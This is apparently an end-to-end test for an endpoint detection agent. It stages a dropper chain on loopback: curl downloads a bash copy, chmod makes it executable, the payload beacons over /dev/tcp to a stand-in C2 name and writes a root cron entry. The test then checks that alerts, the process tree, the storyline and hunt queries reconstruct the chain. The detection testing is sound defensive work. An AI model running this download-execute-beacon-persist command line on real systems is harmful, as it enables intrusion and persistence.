// End-to-end attack-chain reconstruction on real telemetry: a shell downloads a payload over HTTP (by name, through a
// test DNS server), writes it to /tmp, chmods and runs it; the payload resolves its C2 by name, connects out and
// persists through a cron file. A real `vigil agent` (auditd process and file events, bpftrace DNS and connections,
// change records) reports it; the test rebuilds the chain through the API: the alert's process tree, the storyline
// (file write, DNS, connection, persistence, joined by process.entity_id, in causal order), a `sequence` hunt over the
// same events and the change record in the hunt language and in "what changed since T".
// All traffic stays on loopback and in a network namespace created here. Changes audit state (through the agent),
// /etc/cron.d (one file) and a private mount of /etc/resolv.conf in the chain's own mount namespace; restores all of it.

import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { processEntityId } from '@vigil/sources/internal/process-identity';
import { ApiClient, cleanup, startAgent, startServer, tempDir, waitFor, type AgentHandle, type ServerHandle } from './harness.js';
import { startDnsServer, type DnsServer } from './dns-server.js';
import { createLan, leftovers, type Lan } from './netns.js';

const tag = randomBytes(4).toString('hex');
const DL = `dl-${tag}.chain.test`;
const C2 = `c2-${tag}.chain.test`;
const HTTP_PORT = 8080;
const C2_PORT = 4444;
const RULE_DOWNLOAD_CHMOD = '779274b7-fe9e-411a-9dce-7efc170e56a2'; // Vigil: Download to a Temporary Directory Made Executable
const CRON = `/etc/cron.d/vigil-chain-${tag}`;

let server: ServerHandle;
let api: ApiClient;
let agent: AgentHandle;
let lan: Lan;
let dns: DnsServer;
let auditRulesBefore = '';
let tracefsBefore = false;
const work = realpathSync(mkdtempSync(join(tmpdir(), 'vigil-chain-')));
const payload = join(work, 'payload');

const tracefsMounted = () => readFileSync('/proc/self/mounts', 'utf8').split('\n').some((l) => l.split(' ')[1] === '/sys/kernel/tracing');

function startTicks(pid: number): string | undefined {
  try {
    const stat = readFileSync(`/proc/${pid}/stat`, 'utf8');
    return stat.slice(stat.lastIndexOf(')') + 2).split(' ')[19];
  } catch {
    return undefined;
  }
}

before(async () => {
  assert.equal(process.getuid?.(), 0, 'the attack-chain end-to-end test must run as root (auditd, bpftrace, namespaces, /etc/cron.d)');
  auditRulesBefore = execFileSync('auditctl', ['-l'], { encoding: 'utf8' });
  tracefsBefore = tracefsMounted();
  lan = createLan(['c2']);
  dns = await startDnsServer({ [DL]: [lan.hosts.c2!.address], [C2]: [lan.hosts.c2!.address] });
  server = await startServer();
  api = await new ApiClient(server).login();
  const config = join(tempDir('config'), 'agent.yml');
  writeFileSync(config, ['changes:', '  rescan_seconds: 5', ''].join('\n'));
  // The server stores events under /tmp, which the agent watches: exclude its data folder (no feedback loop).
  agent = await startAgent(server, api, { env: { VIGIL_FILE_EXCLUDE: server.dataDir, VIGIL_AGENT_CONFIG: config } });
});

after(async () => {
  if (existsSync(CRON)) unlinkSync(CRON);
  rmSync(work, { recursive: true, force: true });
  await cleanup();
  await dns?.close();
  lan?.destroy();
  if (lan) assert.deepEqual(leftovers(lan), [], 'the test network is gone');
  assert.equal(existsSync(CRON), false, 'cron file removed');
  assert.equal(execFileSync('auditctl', ['-l'], { encoding: 'utf8' }), auditRulesBefore, 'audit rules restored');
  assert.equal(tracefsMounted(), tracefsBefore, 'tracefs mount state restored when the agent stopped');
});

type Event = Record<string, unknown>;

test('shell → curl download → chmod → run → DNS → connect → cron persistence is rebuilt as one tree, one storyline and one sequence', async (t) => {
  // The "C2" host: serves the payload (a copy of bash) over HTTP and echoes on the C2 port.
  const c2 = lan.spawn('c2', process.execPath, [
    '-e',
    `const body = require('fs').readFileSync('/usr/bin/bash');
     require('http').createServer((q, s) => { s.setHeader('content-type', 'application/octet-stream'); s.end(body); }).listen(${HTTP_PORT}, () =>
       require('net').createServer((c) => { c.on('error', () => {}); c.on('data', (d) => c.write(d)); }).listen(${C2_PORT}, () => console.log('listening')));`,
  ]);
  await new Promise<void>((resolve, reject) => {
    c2.stdout!.once('data', () => resolve());
    c2.once('exit', (code) => reject(new Error(`the C2 host's servers exited with ${code}`)));
  });
  t.after(() => c2.kill('SIGKILL'));

  const resolvConf = join(tempDir('resolv'), 'resolv.conf');
  writeFileSync(resolvConf, `nameserver ${dns.address}\noptions attempts:1 timeout:2\n`);
  const stage2 = `exec 3<>/dev/tcp/${C2}/${C2_PORT} || exit 3; echo ping >&3; read -r -t 5 reply <&3; echo "$reply"; echo "* * * * * root ${payload}" > ${CRON}`;
  // One command line, as droppers run it; `; rc=$?` keeps bash from exec'ing the payload in its own process.
  const chain = `curl -sf -o ${payload} http://${DL}:${HTTP_PORT}/payload && chmod +x ${payload} && ${payload} -c '${stage2}'; rc=$?; exit $rc`;
  const since = new Date().toISOString();
  // A private mount namespace points only this chain's resolver at the test DNS server; the shell waits for a line on
  // stdin so its start time (hence its entity id) can be read first.
  const child = spawn('unshare', ['-m', 'sh', '-c', 'mount --bind "$1" /etc/resolv.conf || exit 97; read -r go; exec /usr/bin/bash -c "$2"', 'sh', resolvConf, chain], { stdio: ['pipe', 'pipe', 'inherit'] });
  let output = '';
  child.stdout!.on('data', (d: Buffer) => (output += d.toString()));
  const exited = new Promise<number | null>((resolve) => child.once('exit', resolve));
  t.after(() => {
    if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
  });
  const pid = child.pid!;
  const ticks = await waitFor('the shell to start', () => startTicks(pid), 5000, 10);
  const shellEntity = processEntityId(readFileSync('/proc/sys/kernel/random/boot_id', 'utf8').trim(), pid, ticks);
  child.stdin!.end('go\n');
  assert.equal(await exited, 0, `the chain ran to the end (output: ${JSON.stringify(output)})`);
  assert.equal(output.trim(), 'ping', 'the payload got its echo from the C2 host');
  assert.ok(dns.queries.includes(`${DL}/1`) && dns.queries.includes(`${C2}/1`), `both names went to the test DNS server: ${dns.queries.join(', ')}`);
  assert.ok(existsSync(CRON), 'the payload wrote its cron file');

  // --- the raw events, as the sources reported them
  const host = agent.agentId;
  const processes = () => api.hostEvents(host, 'category=process&action=start&limit=10000');
  const shell = await waitFor('the shell start', async () => (await processes()).find((e) => e['process.entity_id'] === shellEntity && e['process.executable'] === '/usr/bin/bash'), 30_000, 250);
  const childOf = async (exe: string) => waitFor(`the ${exe} start`, async () => (await processes()).find((e) => e['process.parent.entity_id'] === shellEntity && e['process.executable'] === exe), 30_000, 250);
  const curl = await childOf('/usr/bin/curl');
  const chmod = await childOf('/usr/bin/chmod');
  const run = await childOf(payload);
  const curlEntity = String(curl['process.entity_id']);
  const chmodEntity = String(chmod['process.entity_id']);
  const payloadEntity = String(run['process.entity_id']);
  assert.equal(new Set([shellEntity, curlEntity, chmodEntity, payloadEntity]).size, 4, 'four distinct processes');
  assert.match(String(shell['process.command_line']), new RegExp(`curl -sf -o ${payload}`));

  const files = () => api.hostEvents(host, 'category=file&limit=10000');
  const write = await waitFor('the payload written by curl', async () => (await files()).find((e) => e['file.path'] === payload && e['process.entity_id'] === curlEntity && e['event.action'] === 'create'), 30_000, 250);
  const mode = await waitFor('the chmod of the payload', async () => (await files()).find((e) => e['file.path'] === payload && e['process.entity_id'] === chmodEntity && e['event.action'] === 'permission_change'), 30_000, 250);
  const cronWrite = await waitFor('the cron file written by the payload', async () => (await files()).find((e) => e['file.path'] === CRON && e['process.entity_id'] === payloadEntity), 30_000, 250);

  const dnsEvents = () => api.hostEvents(host, 'category=dns&limit=10000');
  const curlLookup = await waitFor('the download name lookup', async () => (await dnsEvents()).find((e) => e['dns.question.name'] === DL && e['dns.question.type'] === 'A' && e['process.entity_id'] === curlEntity), 30_000, 250);
  const c2Lookup = await waitFor('the C2 name lookup', async () => (await dnsEvents()).find((e) => e['dns.question.name'] === C2 && e['dns.question.type'] === 'A' && e['process.entity_id'] === payloadEntity), 30_000, 250).catch(async (error: Error) => {
    const seen = (await dnsEvents()).filter((e) => e['dns.question.name'] === C2).map((e) => [e['dns.question.type'], e['process.pid'], e['process.entity_id'], e['process.executable']]);
    throw new Error(`${error.message}; payload ${payloadEntity} pid ${run['process.pid']}; DNS events of ${C2}: ${JSON.stringify(seen)}`);
  });
  const connects = () => api.hostEvents(host, 'category=network&action=connect&limit=10000');
  const download = await waitFor('the download connection', async () => (await connects()).find((e) => e['process.entity_id'] === curlEntity && e['destination.port'] === HTTP_PORT), 30_000, 250);
  const beacon = await waitFor('the C2 connection', async () => (await connects()).find((e) => e['process.entity_id'] === payloadEntity && e['destination.port'] === C2_PORT), 30_000, 250);
  assert.equal(download['destination.ip'], lan.hosts.c2!.address);
  assert.equal(beacon['destination.ip'], lan.hosts.c2!.address);
  assert.equal(beacon['destination.domain'], C2, 'the connection is enriched with the name the process resolved');

  // --- the alert and its process tree
  const alert = await waitFor('the download-and-chmod alert on the shell', async () => {
    const list = (await api.get(`/api/v1/alerts?host_id=${host}&limit=1000`)).body as { id: string; ruleId: string; eventIds: string[] }[];
    return list.find((a) => a.ruleId === RULE_DOWNLOAD_CHMOD && a.eventIds.includes(String(shell['event.id'])));
  }, 30_000, 250);

  const treeReply = await api.get(`/api/v1/hosts/${host}/process-tree?entity_id=${shellEntity}`);
  assert.equal(treeReply.status, 200, JSON.stringify(treeReply.body));
  const tree = treeReply.body as { nodes: { entityId: string; executable: string | null; activity: Record<string, number> }[]; edges: { parent: string; child: string }[] };
  const node = (entity: string) => tree.nodes.find((n) => n.entityId === entity);
  for (const entity of [curlEntity, chmodEntity, payloadEntity]) assert.ok(tree.edges.some((e) => e.parent === shellEntity && e.child === entity), `edge shell → ${entity}`);
  assert.equal(node(payloadEntity)?.executable, payload);
  assert.ok((node(curlEntity)?.activity['file/create'] ?? 0) >= 1, JSON.stringify(node(curlEntity)?.activity));
  assert.ok((node(curlEntity)?.activity['dns/query'] ?? 0) >= 1, JSON.stringify(node(curlEntity)?.activity));
  assert.ok((node(curlEntity)?.activity['network/connect'] ?? 0) >= 1, JSON.stringify(node(curlEntity)?.activity));
  assert.ok((node(chmodEntity)?.activity['file/permission_change'] ?? 0) >= 1, JSON.stringify(node(chmodEntity)?.activity));
  assert.ok((node(payloadEntity)?.activity['network/connect'] ?? 0) >= 1, JSON.stringify(node(payloadEntity)?.activity));

  // --- the storyline: every step, joined by process.entity_id, in causal order
  const storyReply = await api.get(`/api/v1/alerts/${alert.id}/storyline?window_s=600`);
  assert.equal(storyReply.status, 200, JSON.stringify(storyReply.body));
  const story = storyReply.body as { tree: { rootEntityId: string }; events: Event[]; tags: string[] };
  assert.equal(story.tree.rootEntityId, shellEntity);
  assert.ok(story.tags.includes('attack.t1105'), JSON.stringify(story.tags));
  const steps: [string, Event][] = [
    ['curl start', curl], ['curl DNS', curlLookup], ['download connection', download], ['payload written', write],
    ['chmod start', chmod], ['chmod +x', mode], ['payload start', run], ['C2 DNS', c2Lookup], ['C2 connection', beacon], ['cron write', cronWrite],
  ];
  const ids = story.events.map((e) => e['event.id']);
  const positions = steps.map(([what, event]) => {
    const at = ids.indexOf(event['event.id']);
    assert.ok(at >= 0, `${what} is in the storyline`);
    return { what, at, time: Date.parse(String(event['@timestamp'])), provider: String(event['event.provider']), entity: String(event['process.entity_id']) };
  });
  // Causal order inside each clock: auditd stamps records with the kernel's time, the bpftrace source (today) with the
  // time the agent read the line, a few milliseconds late, so a DNS query or a connection may sort after a file write
  // that followed it. Within one source the order is exact, and no event of a process sorts before its start.
  for (const provider of new Set(positions.map((p) => p.provider))) {
    const mine = positions.filter((p) => p.provider === provider);
    for (let i = 1; i < mine.length; i++) {
      const [a, b] = [mine[i - 1]!, mine[i]!];
      // Equal timestamps (millisecond resolution) may come in either order; a later step is never earlier.
      assert.ok(b.time >= a.time, `${provider}: ${b.what} (${new Date(b.time).toISOString()}) is not before ${a.what} (${new Date(a.time).toISOString()})`);
      if (b.time > a.time) assert.ok(b.at > a.at, `${b.what} comes after ${a.what} in the storyline`);
    }
  }
  for (const step of positions) {
    const start = positions.find((p) => p.what.endsWith(' start') && p.entity === step.entity);
    if (start && start !== step) assert.ok(step.time >= start.time && (step.time === start.time || step.at > start.at), `${step.what} comes after ${start.what}`);
  }

  // --- the same chain as a hunt over the real events
  const stepQueries = [
    `process where process.name == "curl" and process.command_line contains "${DL}"`,
    `file where file.path == "${payload}"`,
    `process where process.executable == "${payload}"`,
    `dns where dns.question.name == "${C2}"`,
    `network where destination.port == ${C2_PORT}`,
  ];
  const sequence = await api.post('/api/v1/hunt', { query: `sequence by host.id maxspan=2m ${stepQueries.map((q) => `[${q}]`).join(' ')}`, start: since });
  if (sequence.status === 200 && sequence.body.rows.length !== 1) {
    // Which step found nothing: printed with the failure below.
    for (const q of stepQueries) {
      const rows = (await api.post('/api/v1/hunt', { query: `${q} | fields @timestamp, event.id, event.action, process.entity_id`, start: since })).body.rows;
      console.log(`step ${q}: ${JSON.stringify(rows)}`);
    }
  }
  assert.equal(sequence.status, 200, JSON.stringify(sequence.body));
  assert.equal(sequence.body.kind, 'sequence');
  assert.equal(sequence.body.rows.length, 1, JSON.stringify(sequence.body.rows));
  const row = sequence.body.rows[0] as Event;
  assert.equal(row['host.id'], host);
  assert.deepEqual([1, 2, 3, 4, 5].map((i) => row[`step${i}.event.id`]), [curl, write, run, c2Lookup, beacon].map((e) => e['event.id']));
  const byEntity = await api.post('/api/v1/hunt', {
    query: `sequence maxspan=2m [dns where dns.question.name == "${C2}"] by process.entity_id [network where destination.port == ${C2_PORT}] by process.entity_id`,
    start: since,
  });
  assert.equal(byEntity.status, 200, JSON.stringify(byEntity.body));
  assert.equal(byEntity.body.rows.length, 1, 'the lookup and the connection of one process');

  // --- persistence: the change record, in "what changed since T" and in the hunt language
  const record = await waitFor('the cron change record', async () => {
    const reply = await api.get(`/api/v1/hosts/${host}/changes?since=${encodeURIComponent(since)}`);
    assert.equal(reply.status, 200, JSON.stringify(reply.body));
    return (reply.body.records as Event[]).find((r) => r['file.path'] === CRON && r['event.category'] === 'autostart');
  }, 30_000, 500);
  assert.equal(record['autostart.location'], 'cron');
  assert.equal((record.acting_process as { entity_id?: string } | undefined)?.entity_id, payloadEntity, 'the change is tied to the payload through its file write');
  const withChanges = (await api.get(`/api/v1/alerts/${alert.id}/storyline?window_s=600`)).body as { changes: Event[] };
  assert.deepEqual(withChanges.changes.filter((c) => c['file.path'] === CRON).map((c) => [c['event.id'], (c.acting_process as { entity_id?: string }).entity_id]), [[record['event.id'], payloadEntity]], 'the storyline lists the persistence its payload created');
  const persisted = await api.post('/api/v1/hunt', { query: `autostart where autostart.location == "cron" and file.path == "${CRON}"`, start: since });
  assert.equal(persisted.status, 200, JSON.stringify(persisted.body));
  assert.deepEqual(persisted.body.rows.map((r: Event) => r['event.id']), [record['event.id']]);
  const counted = await api.post('/api/v1/hunt', { query: `autostart | stats count() as n by autostart.location, event.action`, start: since });
  assert.equal(counted.status, 200, JSON.stringify(counted.body));
  assert.ok(counted.body.rows.some((r: Event) => r['autostart.location'] === 'cron' && r['event.action'] === 'created' && Number(r.n) >= 1), JSON.stringify(counted.body.rows));
});
